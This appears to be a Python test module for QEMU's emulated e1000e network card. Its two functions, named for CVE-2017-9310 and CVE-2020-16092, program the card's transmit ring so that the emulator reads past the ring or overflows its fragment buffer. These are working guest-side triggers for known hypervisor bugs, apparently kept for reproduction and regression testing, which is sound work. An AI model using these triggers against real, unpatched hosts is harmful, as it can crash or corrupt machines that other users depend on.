# SPDX-License-Identifier: GPL-2.0
"""Intel's 82574L network card"""

import struct

DEVICES = ("e1000e,netdev=net,mac=52:54:00:12:34:56",)
BACKENDS = ("-netdev hubport,id=net,hubid=0",)
# EXTCNF_CTRL
PROBE = 0, 0xf00

TCTL, TDBAL, TDBAH, TDLEN, TDH, TDT = 0x400, 0x3800, 0x3804, 0x3808, 0x3810, 0x3818
TCTL_EN = 2
DESCRIPTOR = 16
LENGTH = 64
# In units of 4 GiB: where the machine has nothing
NOWHERE = 0x10


def start(guest, place, count):
    """Has the card send, when it is told to, what is in a ring."""
    bar = guest.device.bars[0]
    bar.write(TDBAL, place & 0xffffffff)
    bar.write(TDBAH, place >> 32)
    bar.write(TDLEN, count * DESCRIPTOR)
    bar.write(TCTL, TCTL_EN)
    return bar


def cve_2017_9310(guest):
    """The first descriptor to be sent is said to be behind the ring.  There is no memory
    there: other memory would be taken for descriptors, and written to."""
    bar = start(guest, NOWHERE << 32, 8)
    bar.write(TDH, 0x1000)
    bar.write(TDT, 2)


def cve_2020_16092(guest):
    """A packet is in more parts than the model has room for."""
    part = struct.pack("<QIxxxx", guest.alloc(LENGTH), LENGTH)
    start(guest, guest.memory(part * 256), 256).write(TDT, 200)
